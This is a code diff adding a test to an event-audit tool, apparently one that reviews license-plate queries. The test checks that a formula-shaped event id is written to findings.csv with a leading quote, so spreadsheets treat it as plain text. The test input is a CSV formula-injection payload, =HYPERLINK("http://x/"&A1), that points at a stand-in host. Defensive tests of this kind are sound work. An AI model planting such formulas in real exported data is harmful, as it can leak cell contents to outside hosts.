@@ -402,6 +402,15 @@ class TestText:
         assert '\'=HYPERLINK("x") PD' in requesters
         assert not any(name.startswith("=") for name in requesters)
 
+    def test_formula_event_id_inert_in_findings_csv(self, engine: Engine, tmp_path: Path) -> None:
+        """An event id written like a formula reaches findings.csv with a leading quote, as agency names do."""
+        path = tmp_path / "events.jsonl"
+        path.write_text(query('=HYPERLINK("http://x/"&A1)', {"agency": "FBI"}, "burglary", PLATES[0]) + "\n")
+        audit(engine, [path], tmp_path / "out")
+        with (tmp_path / "out" / "findings.csv").open(encoding="utf-8", newline="") as handle:
+            event_ids = {row["event_id"] for row in csv.DictReader(handle)}
+        assert event_ids == {'\'=HYPERLINK("http://x/"&A1)'}
+
     def test_md_text(self) -> None:
         """Untrusted text cannot break a Markdown table or inject HTML."""
         assert md_text("a|b") == "a\\|b"
